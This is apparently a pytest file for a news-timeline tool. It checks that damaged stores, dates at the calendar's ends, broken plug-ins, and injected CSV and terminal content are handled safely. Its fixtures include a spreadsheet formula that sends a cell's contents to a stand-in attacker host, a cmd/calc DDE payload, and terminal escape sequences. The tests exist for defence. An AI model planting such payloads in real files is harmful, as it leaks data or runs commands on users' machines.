"""Hostile inputs, fourth probe round: the store file and the stage plug-ins as inputs, and
publication dates at the calendar's ends.

Each case ended otherwise on main: a database of a newer storyline opened and written as if
current, a damaged or locked file reported as a storyline bug (S199 and a traceback, a 500
on the web), a run ended by OverflowError for an article of 0001-01-01 (and every run after
it), "-0044-03-15" stored as year 44, and a broken plug-in as a traceback or a silent exit.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
import subprocess
import textwrap
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from storyline import errors
from storyline.cli.exit_codes import EXIT_FATAL, EXIT_REJECTED
from storyline.errors import StoreError
from storyline.extract.timex.find import find_timexes
from storyline.store import Store
from storyline.timeline_dates import day_before, next_day
from storyline.web import create_app
from tests.conftest import BACKENDS, store_url
from tests.test_cli import _installed, _script, _script_env

BRIDGE = "The council voted on Tuesday to close the old bridge after engineers found cracks."
FERRY = "The ferry service will run twice a day from Monday while the bridge is repaired."


def _write_rows(path: Path, rows: list[dict[str, str]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _exported(db: str | Path, what: str) -> list[dict]:
    done = _installed("export", "--what", what, "--db", str(db))
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


# -- the store file ----------------------------------------------------------------------------


def _sql(url: str, statement: str) -> list[tuple]:
    """Run one statement on the store at ``url``, outside storyline; return its rows."""
    if url.startswith("postgresql"):
        import psycopg  # noqa: PLC0415 - only the PostgreSQL case needs it

        with psycopg.connect(url, autocommit=True) as pg:
            cursor = pg.execute(statement)
            return [tuple(r) for r in cursor.fetchall()] if cursor.description else []
    conn = sqlite3.connect(url, isolation_level=None)
    try:
        return [tuple(r) for r in conn.execute(statement).fetchall()]
    finally:
        conn.close()


def _version_sql(url: str) -> str:
    return "SELECT version FROM schema_version" if "://" in url else "PRAGMA user_version"


@pytest.mark.parametrize("backend", BACKENDS)
def test_hostile_inputs_a_store_of_a_newer_storyline_is_refused_untouched(
    tmp_path: Path, backend: str
):
    # it was opened as if current: this version's SQL on a schema it does not know
    rows = _write_rows(tmp_path / "rows.jsonl", [{"id": "r1", "text": BRIDGE}])
    with store_url(backend, tmp_path) as url:
        assert _installed("ingest", str(rows), "--db", url).returncode == 0
        newer = "UPDATE schema_version SET version = 999" if "://" in url else None
        _sql(url, newer or "PRAGMA user_version = 999")
        more = _write_rows(tmp_path / "more.jsonl", [{"id": "r2", "text": FERRY}])
        for args in (["stories"], ["ingest", str(more)], ["export", "--what", "articles"]):
            done = _installed(*args, "--db", url)
            assert done.returncode == EXIT_FATAL, (args, done.stdout)
            assert done.stderr.startswith("error: [S002] cannot open the database"), done.stderr
            assert "its schema is version 999, made by a newer storyline" in done.stderr
            assert "Traceback" not in done.stderr
            assert done.stdout == ""
        with pytest.raises(StoreError, match=r"\[S002\] .* schema is version 999"):
            Store(url)
        # nothing was written: not the version, not the refused ingest's article
        assert _sql(url, _version_sql(url)) == [(999,)]
        assert _sql(url, "SELECT id FROM articles") == [("r1",)]


def _damaged_store(tmp_path: Path, how: str) -> Path:
    db = tmp_path / "s.db"
    rows = _write_rows(tmp_path / "rows.jsonl", [{"id": "r1", "text": BRIDGE, "title": "Bridge"}])
    assert _installed("ingest", str(rows), "--db", str(db)).returncode == 0
    conn = sqlite3.connect(db, isolation_level=None)
    try:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        if how == "not utf-8":  # bytes changed on disk inside a stored text
            conn.execute("UPDATE articles SET title = CAST(X'42C3FF72' AS TEXT)")
            return db
        query = "SELECT rootpage FROM sqlite_master WHERE name = 'articles'"
        (root,) = conn.execute(query).fetchone()
        (size,) = conn.execute("PRAGMA page_size").fetchone()
        conn.execute("PRAGMA journal_mode=DELETE")  # nothing of the table left in a WAL
    finally:
        conn.close()
    with db.open("r+b") as file:  # a zeroed page: the file opens, reading articles fails
        file.seek((root - 1) * size)
        file.write(bytes(size))
    return db


DAMAGE = {
    "malformed": "the database file is damaged (database disk image is malformed)",
    "not utf-8": "the database file is damaged (a value of column 'title' is not UTF-8 text)",
}


@pytest.mark.parametrize("how", sorted(DAMAGE))
def test_hostile_inputs_a_damaged_store_is_a_coded_error_in_the_cli_and_the_api(
    tmp_path: Path, how: str
):
    # a store damaged past its first pages opens fine and failed at the first read of a bad
    # page: an S199 "bug" traceback in the CLI, a 500 (traceback logged) on the web
    db = _damaged_store(tmp_path, how)
    done = _installed("export", "--what", "articles", "--db", str(db))
    assert done.returncode == EXIT_FATAL
    assert done.stderr.startswith(f"error: [S002] {DAMAGE[how]}: restore a copy"), done.stderr
    assert "Traceback" not in done.stderr
    assert "S199" not in done.stderr
    with Store(db) as store:
        # raise_server_exceptions (the default): no exception may leave the app
        client = TestClient(create_app(store, cache_entries=0, min_outlets=2))
        for path in ("/api/articles", "/api/articles/r1", "/articles/r1"):
            answer = client.get(path)
            assert answer.status_code == 503, (path, answer.text)
            if path.startswith("/api/"):
                error = answer.json()["error"]
                assert error["code"] == "store_unavailable"
                assert error["message"].startswith(f"[S002] {DAMAGE[how]}")


def test_hostile_inputs_a_store_another_program_holds_locked_is_s004(tmp_path: Path):
    # a `sqlite3` shell or a backup tool holding the write lock past the busy timeout (5 s)
    db = tmp_path / "s.db"
    rows = _write_rows(tmp_path / "rows.jsonl", [{"id": "r1", "text": BRIDGE}])
    assert _installed("ingest", str(rows), "--db", str(db)).returncode == 0
    more = _write_rows(tmp_path / "more.jsonl", [{"id": "r2", "text": FERRY}])
    holder = sqlite3.connect(db, isolation_level=None)
    try:
        holder.execute("BEGIN EXCLUSIVE")
        done = _installed("ingest", str(more), "--db", str(db))
    finally:
        holder.close()
    assert done.returncode == EXIT_FATAL
    assert done.stderr.startswith(
        "error: [S004] the database is locked by another program (database is locked)"
    ), done.stderr
    assert "Traceback" not in done.stderr
    again = _installed("ingest", str(more), "--db", str(db))  # once it is free, as told
    assert again.returncode == 0, again.stderr
    assert [a["id"] for a in _exported(str(db), "articles")] == ["r1", "r2"]


# -- dates at the calendar's ends --------------------------------------------------------------

STORY = (
    'Mayor Ilse Varga said "the dam will be rebuilt before winter". Yesterday the river '
    "rose, and tomorrow engineers arrive. The breach happened on 20 October in Marenholt."
)


@pytest.mark.parametrize("backend", BACKENDS)
def test_hostile_inputs_articles_dated_at_the_calendars_ends_are_run_and_so_is_the_next_run(
    tmp_path: Path, backend: str
):
    # 0001-01-01 and 9999-12-31 are valid dates: the corpus window overflowed, and every
    # later run on that store ended in OverflowError (an S199 traceback)
    first = _write_rows(
        tmp_path / "ends.jsonl",
        [
            {"id": "old", "source": "Ledger", "published": "0001-01-01", "text": STORY},
            {"id": "new", "source": "Herald", "published": "9999-12-31", "text": STORY},
        ],
    )
    later = _write_rows(
        tmp_path / "later.jsonl",
        [{"id": "mid", "source": "Courier", "published": "2015-10-21", "text": STORY + " Yes."}],
    )
    with store_url(backend, tmp_path) as url:
        for path in (first, later):
            done = _installed("run", str(path), "--db", url, "--workers", "1")
            assert done.returncode == 0, done.stderr
            assert "Traceback" not in done.stderr
        values = {(t["article_id"], t["text"]): t["value"] for t in _exported(url, "timexes")}
        timeline = {(e["date"], tuple(e["sources"])) for e in _exported(url, "timeline")}
    assert values[("old", "tomorrow")] == "0001-01-02"
    assert values[("new", "Yesterday")] == "9999-12-30"
    assert values[("mid", "Yesterday")] == "2015-10-20"
    assert ("old", "Yesterday") not in values  # the day before 0001-01-01 is no date
    assert ("new", "tomorrow") not in values
    assert ("0001-10-20", ("old",)) in timeline
    assert ("9999-10-20", ("new",)) in timeline
    assert ("2015-10-20", ("mid",)) in timeline


def test_hostile_inputs_the_calendars_last_and_first_days_have_no_next_or_previous_day():
    assert (next_day("9999-12-31"), day_before("0001-01-01")) == ("", "")
    assert (next_day("9999-12-30"), day_before("0001-01-02")) == ("9999-12-31", "0001-01-01")


# -- published values dateutil misread ---------------------------------------------------------


def test_hostile_inputs_a_negative_year_or_an_offset_out_of_range_is_an_s111_row(tmp_path: Path):
    # dateutil dropped the sign of "-0044-03-15" (stored as 0044-03-15) and took "+25:00"
    published = {
        "ides": "-0044-03-15",
        "minus": "\u22120044-03-15",
        "hours": "2015-10-01T10:00:00+25:00",
        "minutes": "October 1, 2015 10:00 +0560",
        "west": "2015-10-01 10:00 -2400",
        "ist": "October 1, 2015 10:00 +0530",  # in range: read, its local day kept
        "samoa": "1 Oct 2015 23:30 -1100",
    }
    rows = [{"id": k, "published": v, "text": f"{BRIDGE} ({k})"} for k, v in published.items()]
    path = _write_rows(tmp_path / "rows.jsonl", rows)
    db = str(tmp_path / "s.db")
    done = _installed("ingest", str(path), "--db", db)
    assert done.returncode == EXIT_REJECTED, done.stderr
    rejected = {Path(r["locator"]).name: r for r in _exported(db, "rejected")}
    assert sorted(rejected) == [f"rows.jsonl:{n}" for n in range(1, 6)]
    for number, key in enumerate(published, start=1):
        if number <= 5:  # the first five rows are refused
            row = rejected[f"rows.jsonl:{number}"]
            assert row["code"] == errors.INVALID_FIELD
            assert row["reason"] == f"published: not a date ({published[key]!r})"
    stored = {a["id"]: a["published"] for a in _exported(db, "articles")}
    assert stored == {"ist": "2015-10-01", "samoa": "2015-10-01"}


# -- stage plug-ins --------------------------------------------------------------------------

PLUGINS = {
    "raises": ("raise RuntimeError('acme needs a licence key')", "RuntimeError: acme needs a"),
    "syntax": ("def broken(:\n    pass", "SyntaxError: "),
    "exits": ("import sys\nsys.exit(3)", "SystemExit: 3"),
    "nothing": ("VERSION = 1", "declares no @stage"),
}


@pytest.mark.parametrize("kind", sorted(PLUGINS))
def test_hostile_inputs_a_broken_stage_plugin_is_a_coded_config_error(tmp_path: Path, kind: str):
    # its import raising was an S199 traceback; sys.exit(3) in it ended every command with
    # exit 3 ("some inputs were rejected") and no word; a plug-in without @stage was ignored
    source, reason = PLUGINS[kind]
    package = f"acme_{kind}"
    site = tmp_path / "site"
    (site / package).mkdir(parents=True)
    (site / package / "__init__.py").write_text(textwrap.dedent(source) + "\n", encoding="utf-8")
    info = site / f"{package}-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {package}\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text(f"[storyline.stages]\n{kind} = {package}\n")
    rows = _write_rows(tmp_path / "rows.jsonl", [{"id": "r1", "text": BRIDGE}])
    db = tmp_path / "s.db"
    for args in (["stages"], ["run", str(rows), "--db", str(db)]):
        done = _installed(*args, path=[site])
        assert done.returncode == EXIT_FATAL, (args, done.stderr)
        first = done.stderr.splitlines()[0] if done.stderr else ""
        assert first.startswith(f"error: [S001] stage entry point {kind} = {package}"), first
        assert reason in first
        assert "Traceback" not in done.stderr
    assert not db.exists()  # refused before anything was read


# -- exports opened in a spreadsheet ---------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Ferry")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "+1-1",
    "language": "-en",
}


def test_hostile_inputs_csv_export_cells_are_never_run_as_spreadsheet_formulas(tmp_path: Path):
    # a title or an outlet starting with = + - @ was a live formula in Excel or LibreOffice
    rows = [{"id": "f1", "text": BRIDGE, **FORMULAS}, {"id": "-42", "text": FERRY, "url": "-1.5"}]
    db = str(tmp_path / "s.db")
    assert (
        _installed("ingest", str(_write_rows(tmp_path / "r.jsonl", rows)), "--db", db).returncode
        == 0
    )
    done = _installed("export", "--what", "articles", "--format", "csv", "--db", db)
    assert done.returncode == 0, done.stderr
    by_id = {r["id"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
    for key, value in FORMULAS.items():
        assert by_id["f1"][key] == "'" + value
    assert by_id["-42"]["url"] == "-1.5"  # numbers are no formulas: as stored
    assert by_id["f1"]["text"] == BRIDGE
    stored = {r["id"]: r for r in _exported(db, "articles")}  # JSONL: every value as stored
    assert {k: stored["f1"][k] for k in FORMULAS} == FORMULAS


# -- what reaches the terminal ---------------------------------------------------------------

DAM = (
    'Mayor Ilse Varga said "the dam will be rebuilt before winter".\n'
    "The breach happened on 20 October after three days of rain in Marenholt."
)


def test_hostile_inputs_bidi_overrides_and_escapes_never_reach_the_terminal(tmp_path: Path):
    # a right-to-left override left open in a title reversed the rest of the line (borders,
    # other columns) on a bidi terminal; `brief --format md|html` printed an outlet's ESC
    # sequences as they were ("\x1bc" resets the terminal)
    rows = [
        {
            "id": "b1",
            "title": "Dam \u202enoitcelfer breach",
            "source": "Ledger \x1bc\u2067Daily",
            "published": "2015-10-21",
            "text": DAM,
        },
        {
            "id": "b2",
            "title": "Dam breach",
            "source": "Herald",
            "published": "2015-10-21",
            "text": DAM + " More.",
        },
    ]
    db = str(tmp_path / "s.db")
    ran = _installed("run", str(_write_rows(tmp_path / "r.jsonl", rows)), "--db", db)
    assert ran.returncode == 0, ran.stderr
    (story,) = [s["id"] for s in _exported(db, "stories") if s["level"] == "storyline"]
    shown = {
        "run": ran.stdout,
        "stories": _installed("stories", "--db", db).stdout,
        "md": _installed("brief", story, "--db", db, "--format", "md").stdout,
        "html": _installed("brief", story, "--db", db, "--format", "html").stdout,
    }
    for name, output in shown.items():
        assert not set(output) & {"\x1b", "\u202e", "\u2067"}, name
    assert "Dam noitcelfer breach" in shown["run"]
    for name in ("md", "html"):
        assert "Ledger cDaily" in shown[name], shown[name]
    stored = {a["id"]: (a["title"], a["source"]) for a in _exported(db, "articles")}
    assert stored["b1"] == ("Dam \u202enoitcelfer breach", "Ledger \x1bc\u2067Daily")


@pytest.mark.parametrize(
    ("anchor", "expected"),
    [
        (
            dt.date(44, 6, 1),
            {
                "Next week": "0044-W23",
                "This summer": "0044-SU",
                "Last quarter": "0044-Q1",
                "the first half": "0044-H1",
                "spring": "0044-SP",
            },
        ),
        (
            dt.date(1, 1, 1),
            {
                "Next week": "0001-W02",
                "This summer": "0001-SU",
                "Last quarter": "0000-Q4",
                "the first half": "0001-H1",
                "spring": "0000-SP",
            },
        ),
    ],
)
def test_hostile_inputs_timex_values_of_years_before_1000_have_four_digits(
    anchor: dt.date, expected: dict[str, str]
):
    # an article of year 44 had its "next week" stored as "44-W23": no TimeML value, and
    # sorted after "2015-W44" as text
    text = (
        "Next week the council meets. This summer the dam opens. Last quarter costs rose. "
        "In the first half revenue fell. In spring the town was founded."
    )
    found = {t.text: t.value for t in find_timexes(text, anchor=anchor, article_id="a")}
    assert found == expected


# -- one name, two values ----------------------------------------------------------------------


def test_hostile_inputs_a_name_given_twice_in_a_row_is_refused_not_half_read(tmp_path: Path):
    # {"text": A, "text": B} and a CSV header "id,text,text" were read as B alone: A was lost
    # without a word (and a nested meta key the same way)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "twice.csv").write_text(f"id,text,text\nc1,{BRIDGE},{FERRY}\n", encoding="utf-8")
    (folder / "blank.csv").write_text(f"id,text,,\nc2,{BRIDGE},,\n", encoding="utf-8")
    (folder / "rows.jsonl").write_text(
        f'{{"id": "j1", "text": "{BRIDGE}", "text": "{FERRY}"}}\n'
        f'{{"id": "j2", "text": "{FERRY}", "meta": {{"desk": "city", "desk": "sport"}}}}\n'
        f'{{"id": "j3", "text": "{FERRY}", "meta": {{"desk": "city"}}}}\n',
        encoding="utf-8",
    )
    db = str(tmp_path / "s.db")
    done = _installed("ingest", str(folder), "--db", db)
    assert done.returncode == EXIT_REJECTED, done.stderr
    rejected = {
        Path(r["locator"]).name: (r["code"], r["reason"]) for r in _exported(db, "rejected")
    }
    assert rejected == {
        "twice.csv": (errors.MALFORMED_CSV, "the header names 'text' more than once"),
        "rows.jsonl:1": (
            errors.MALFORMED_JSONL,
            "malformed JSONL (key 'text' appears twice in an object)",
        ),
        "rows.jsonl:2": (
            errors.MALFORMED_JSONL,
            "malformed JSONL (key 'desk' appears twice in an object)",
        ),
    }
    # Excel's trailing commas name no column: that file is read as before
    stored = {a["id"]: (a["text"], a["meta"]) for a in _exported(db, "articles")}
    assert stored == {"c2": (BRIDGE, {}), "j3": (FERRY, {"meta": {"desk": "city"}})}


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs Linux's /dev/full")
def test_hostile_inputs_a_full_disk_under_stdout_is_a_coded_error(tmp_path: Path):
    # `storyline export > rows.jsonl` on a full disk was an S199 "bug" with a traceback
    db = str(tmp_path / "s.db")
    rows = _write_rows(tmp_path / "rows.jsonl", [{"id": "r1", "text": BRIDGE}])
    assert _installed("ingest", str(rows), "--db", db).returncode == 0
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [str(_script()), "export", "--what", "articles", "--db", db],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
            env=_script_env(),
        )
    assert done.returncode == EXIT_FATAL
    assert done.stderr == (
        "error: [S003] cannot write to the output: No space left on device (the disk is full)\n"
    )
